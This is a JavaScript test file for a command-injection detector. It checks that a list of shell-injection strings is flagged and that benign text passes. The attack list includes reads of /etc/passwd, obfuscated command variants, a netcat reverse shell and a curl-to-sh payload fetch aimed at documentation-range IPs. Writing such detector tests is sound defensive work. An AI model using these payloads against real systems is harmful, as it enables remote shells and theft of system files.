// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell and lookup syntax is what these values are about
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { DETECTORS, detectCommandInjection, detectCommandLine } from './command.js';

const inQuery = { location: 'query:q' };

describe('command-injection', () => {
  it('exports its detectors by rule name', () => {
    assert.equal(DETECTORS['command-injection'], detectCommandInjection);
    assert.equal(DETECTORS['command-line'], detectCommandLine);
  });

  for (const attack of [
    ';id',
    'a|id|',
    '& ping -i 30 127.0.0.1 &',
    'ping.exe -n 31 127.0.0.1',
    '; /bin/sleep 31 ;',
    '`id`',
    '$(whoami)',
    'x;w"h"o$@ami',
    "'|c'a't /etc/passwd",
    'cat /etc/passwd',
    '1;cat${IFS}/etc/passwd',
    '{cat,/etc/passwd}',
    'x /???/c?t /???/p??s??',
    'bash -c "id"',
    'C:\\Windows\\System32\\cmd.exe /c dir',
    'id;',
    ' dir c: |',
    '<!--#exec cmd="/bin/cat /etc/passwd"-->',
    "x'; nc -e /bin/sh 203.0.113.7 4444 '",
    'a && curl http://203.0.113.9/x.sh | sh',
  ]) {
    it(`reports ${JSON.stringify(attack)}`, () => {
      const hit = detectCommandInjection(attack, inQuery);
      assert.ok(hit, attack);
      assert.ok(hit.start >= 0 && hit.end <= attack.length && hit.start < hit.end);
    });
  }

  for (const benign of [
    'Tom & Jerry',
    'echo in the mirror',
    'ls 300 lexus',
    'a hero; more than that',
    'gzip, deflate',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36',
    'zh-CN,zh;q=0.9,en-US;q=0.8,en;q=0.7',
    'set it to `true` and run `ls`',
    'TypeError: x is undefined\n    at https://cdn.example.com/app.js:1:2\n    at Object.next (https://cdn.example.com/app.js:1:9)',
    'many environments such\nas `equation`, `align`, etc. are supported',
    'https://example.com/?a=1&id=2&time=3',
    '{"id":1,"type":"cat","ls":[1,2]}',
    'text/html;charset=utf-8',
    'I bought a cat; it sleeps all day',
  ]) {
    it(`passes ${JSON.stringify(benign.slice(0, 40))}`, () => {
      assert.equal(detectCommandInjection(benign, inQuery), undefined);
    });
  }

  it('reads a long value around its candidates only, and still finds a command far into it', () => {
    const padding = 'lorem ipsum dolor sit amet '.repeat(400);
    const hit = detectCommandInjection(`${padding};cat /etc/passwd`, inQuery);
    assert.equal(hit?.detail, 'program-on-sensitive-file');
    assert.ok((hit?.start ?? 0) >= padding.length);
    assert.equal(detectCommandInjection(padding, inQuery), undefined);
  });

  it('treats lines of a whole body as text, and lines of a field as commands', () => {
    const value = 'notes\nping -c 3 example.com';
    assert.ok(detectCommandInjection(value, inQuery));
    assert.equal(detectCommandInjection('notes\nwatch this space', { location: 'body' }), undefined);
  });

  it('is linear on pathological input', { timeout: 5000 }, () => {
    for (const unit of ['$(', '`', "'", '${', '{a,', ';x ', '| ']) {
      assert.doesNotThrow(() => detectCommandInjection(unit.repeat(20_000), inQuery));
    }
  });
});

describe('command-line (paranoia 2)', () => {
  it('reports a value that is itself a command line', () => {
    assert.ok(detectCommandLine('uname -a', inQuery));
    assert.ok(detectCommandLine('ls -la /var', inQuery));
    assert.equal(detectCommandInjection('uname -a', inQuery), undefined);
  });

  it('still passes prose', () => {
    assert.equal(detectCommandLine('find the best coffee in town', inQuery), undefined);
  });
});
